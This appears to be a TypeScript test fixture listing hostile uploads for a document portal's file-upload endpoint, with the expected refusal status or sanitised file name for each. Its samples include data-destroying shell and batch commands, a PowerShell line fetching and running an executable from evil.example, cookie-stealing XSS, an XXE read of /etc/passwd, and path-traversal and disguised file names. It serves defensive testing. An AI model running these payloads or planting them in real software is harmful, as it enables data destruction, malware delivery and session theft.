import type { Test } from 'supertest';
import { PDF_BYTES } from './cases';
import { MAX_FILE_BYTES } from '../../src/documents/upload';

/**
 * The corpus of hostile uploads. Each entry builds one request body; `status` is what both the
 * API and the HTML form must answer, and nothing may be left on disk or in the database. Entries
 * with `storedAs` are not refused but neutralised: accepted under that safe display name.
 */
export interface UploadCase {
  label: string;
  send(req: Test): Test;
  status: number;
  storedAs?: string | ((name: string) => boolean);
}

const bytes = (...parts: (string | number[] | Buffer)[]) =>
  Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.isBuffer(p) ? p : Buffer.from(p))));

const PNG = bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], [0, 0, 0, 0x0d], 'IHDR', Buffer.alloc(17));

/** A file named `name` with `content` in the `file` part, of kind "other". */
const file = (name: string, content: Buffer, contentType?: string) => (req: Test) =>
  req.field('kind', 'other').attach('file', content, contentType ? { filename: name, contentType } : name);

/** A body sent as it is, with the given request Content-Type. */
const raw = (contentType: string, body: Buffer | string) => (req: Test) => req.set('Content-Type', contentType).send(body);

const BOUNDARY = 'fps-boundary';
const multipartHead = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="kind"\r\n\r\nother\r\n--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\nContent-Type: application/pdf\r\n\r\n`;

const refused = (label: string, send: UploadCase['send'], status: number): UploadCase => ({ label, send, status });

export const uploadCorpus: UploadCase[] = [
  // Executables and archives under a harmless name: the bytes decide (415).
  refused('an ELF executable named .pdf', file('bericht.pdf', bytes([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], Buffer.alloc(120))), 415),
  refused('a Windows PE executable named .pdf', file('bericht.pdf', bytes('MZ', Buffer.alloc(58), [0x80, 0, 0, 0], Buffer.alloc(64), 'PE\0\0')), 415),
  refused('a ZIP archive named .pdf', file('bericht.pdf', bytes('PK\x03\x04', Buffer.alloc(22), [7, 0, 0, 0], 'evil.sh', '#!/bin/sh')), 415),
  refused('a ZIP archive named .docx', file('antrag.docx', bytes('PK\x03\x04', Buffer.alloc(22), [8, 0, 0, 0], 'evil.exe', 'MZ')), 415),
  refused('a Mach-O executable named .pdf', file('bericht.pdf', bytes([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1], Buffer.alloc(56))), 415),
  refused('a Java class file named .pdf', file('bericht.pdf', bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34], Buffer.alloc(40))), 415),
  refused('a WebAssembly module named .pdf', file('bericht.pdf', bytes('\0asm', [1, 0, 0, 0], Buffer.alloc(40))), 415),
  refused('a shell script named .pdf', file('bericht.pdf', bytes('#!/bin/sh\nrm -rf / --no-preserve-root\n')), 415),
  refused('a batch file named .pdf', file('bericht.pdf', bytes('@echo off\r\nformat c: /q\r\n')), 415),
  refused('a PowerShell script', file('start.ps1', bytes('Invoke-WebRequest http://evil.example/x.exe -OutFile x.exe; ./x.exe')), 415),
  refused('a JavaScript file named .pdf', file('bericht.pdf', bytes('require("child_process").exec("rm -rf /")')), 415),
  refused('a VBScript named .docx', file('antrag.docx', bytes('CreateObject("WScript.Shell").Run "calc"')), 415),
  // Documents a browser would render and run (stored XSS).
  refused('an HTML page with script named .pdf', file('bericht.pdf', bytes('<!DOCTYPE html><html><script>alert(document.cookie)</script></html>')), 415),
  refused('an HTML page with script named .html', file('seite.html', bytes('<html><body onload="alert(1)"></body></html>')), 415),
  refused('an XHTML document', file('seite.xhtml', bytes('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>')), 415),
  refused('an SVG image with script', file('logo.svg', bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')), 415),
  refused('an SVG image with onload named .png', file('logo.png', bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')), 415),
  refused('an XML file with an external entity', file('daten.pdf', bytes('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')), 415),
  refused('an HTML page that carries a PDF header later on', file('bericht.pdf', bytes('<html><script>alert(1)</script>', PDF_BYTES)), 415),
  // Types the portal does not take, even when real.
  refused('an RTF document', file('brief.rtf', bytes('{\\rtf1\\ansi {\\object\\objemb}}')), 415),
  refused('a legacy Word (CFB) file with macros', file('antrag.doc', bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], Buffer.alloc(504))), 415),
  refused('a GIF image', file('bild.gif', bytes('GIF89a', [1, 0, 1, 0, 0, 0, 0], Buffer.alloc(20))), 415),
  refused('a BMP image named .png', file('bild.png', bytes('BM', Buffer.alloc(52))), 415),
  refused('a TIFF image', file('scan.tif', bytes('II*\0', [8, 0, 0, 0], Buffer.alloc(40))), 415),
  refused('a WebP image named .jpg', file('foto.jpg', bytes('RIFF', [36, 0, 0, 0], 'WEBPVP8 ', Buffer.alloc(28))), 415),
  refused('a gzip archive named .pdf', file('bericht.pdf', bytes([0x1f, 0x8b, 8, 0], Buffer.alloc(20))), 415),
  refused('a 7-Zip archive', file('akten.7z', bytes([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4], Buffer.alloc(24))), 415),
  refused('a RAR archive named .pdf', file('bericht.pdf', bytes('Rar!\x1a\x07\x00', Buffer.alloc(24))), 415),
  refused('a bzip2 archive', file('akten.bz2', bytes('BZh91AY&SY', Buffer.alloc(24))), 415),
  refused('an SQLite database named .xlsx', file('tabelle.xlsx', bytes('SQLite format 3\0', Buffer.alloc(84))), 415),
  refused('a truncated Matroska header the sniffer chokes on', file('video.pdf', bytes([0x1a, 0x45, 0xdf, 0xa3, 0x01, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x42, 0x82, 0x88])), 415),
  refused('a truncated PDF header', file('bericht.pdf', bytes('%PD')), 415),
  refused('plain text with a .pdf name', file('bericht.pdf', bytes('Dies ist kein PDF.')), 415),
  // Lying declared types: the part's and the request's Content-Type count for nothing.
  refused('an ELF executable declared application/pdf', file('bericht.pdf', bytes([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], Buffer.alloc(120)), 'application/pdf'), 415),
  refused('an HTML page declared image/png', file('bild.png', bytes('<html><script>alert(1)</script></html>'), 'image/png'), 415),
  refused('a multipart body declared as JSON', raw('application/json', `${multipartHead}%PDF-1.4\r\n--${BOUNDARY}--\r\n`), 400),
  refused('a bare PDF declared text/plain instead of multipart', raw('text/plain', PDF_BYTES), 422),
  refused('a multipart request without a boundary', raw('multipart/form-data', `${multipartHead}%PDF-1.4\r\n--${BOUNDARY}--\r\n`), 400),
  refused('a multipart body cut off in the middle of the file', raw(`multipart/form-data; boundary=${BOUNDARY}`, `${multipartHead}%PDF-1.4\n1 0 obj`), 400),
  // Sizes and counts.
  refused('an empty file (zero bytes)', file('leer.pdf', Buffer.alloc(0)), 422),
  refused('a file one byte over the limit', file('gross.pdf', Buffer.concat([PDF_BYTES, Buffer.alloc(MAX_FILE_BYTES + 1 - PDF_BYTES.length, 0x20)])), 413),
  refused('two files in one request', (req) => req.field('kind', 'other').attach('file', PDF_BYTES, 'a.pdf').attach('file', PDF_BYTES, 'b.pdf'), 400),
  refused('a file under another field name', (req) => req.field('kind', 'other').attach('datei', PDF_BYTES, 'a.pdf'), 400),
  refused('no file at all', (req) => req.field('kind', 'other'), 422),
  refused('no kind', (req) => req.attach('file', PDF_BYTES, 'a.pdf'), 422),
  refused('a kind that is a path', (req) => req.field('kind', '../../etc/passwd').attach('file', PDF_BYTES, 'a.pdf'), 422),
  refused(
    'too many fields',
    (req) => ['a', 'b', 'c', 'd', 'e', 'f'].reduce((r, n) => r.field(n, 'x'), req.field('kind', 'other')).attach('file', PDF_BYTES, 'a.pdf'),
    400,
  ),
  // busboy refuses a NUL byte in a part header as malformed.
  refused('a name with a NUL byte before .exe', file('rechnung.pdf\u0000.exe', PDF_BYTES), 400),
  refused('a field value far over its limit', (req) => req.field('kind', 'o'.repeat(20_000)).attach('file', PDF_BYTES, 'a.pdf'), 400),
  // Names: never a path, never the claimed extension, never invisible tricks; cut by whole characters.
  { label: 'a path-traversal name', send: file('../../../../etc/passwd.pdf', PDF_BYTES), status: 201, storedAs: 'passwd.pdf' },
  { label: 'a Windows path-traversal name', send: file('..\\..\\Windows\\win.ini.pdf', PDF_BYTES), status: 201, storedAs: 'win.ini.pdf' },
  { label: 'a name with a right-to-left override', send: file('rechnung\u202Efdp.exe', PDF_BYTES), status: 201, storedAs: 'rechnungfdp.pdf' },
  { label: 'a PDF named .exe', send: file('bescheid.exe', PDF_BYTES), status: 201, storedAs: 'bescheid.pdf' },
  { label: 'a PNG named .pdf', send: file('foto.pdf', PNG), status: 201, storedAs: 'foto.png' },
  { label: 'an overlong name', send: file(`${'x'.repeat(1000)}.pdf`, PDF_BYTES), status: 201, storedAs: `${'x'.repeat(196)}.pdf` },
  {
    label: 'an overlong name of characters outside the BMP',
    send: file(`${'😀'.repeat(300)}.pdf`, PDF_BYTES),
    status: 201,
    storedAs: (n) => n === `${'😀'.repeat(196)}.pdf`,
  },
  { label: 'a name that is only dots', send: file('....', PDF_BYTES), status: 201, storedAs: 'anlage.pdf' },
  { label: 'a hidden-file name', send: file('.htaccess', PDF_BYTES), status: 201, storedAs: 'htaccess.pdf' },
  // Not refused: PDF forms legitimately carry scripts. It is only ever served as an attachment
  // download with nosniff and the strict CSP (headers.test.ts), never rendered by the portal.
  {
    label: 'a PDF with embedded JavaScript',
    send: file('formular.pdf', bytes('%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')),
    status: 201,
    storedAs: 'formular.pdf',
  },
  { label: 'a name with markup', send: file('<img src=x onerror=alert(1)>.pdf', PDF_BYTES), status: 201, storedAs: '<img src=x onerror=alert(1)>.pdf' },
];
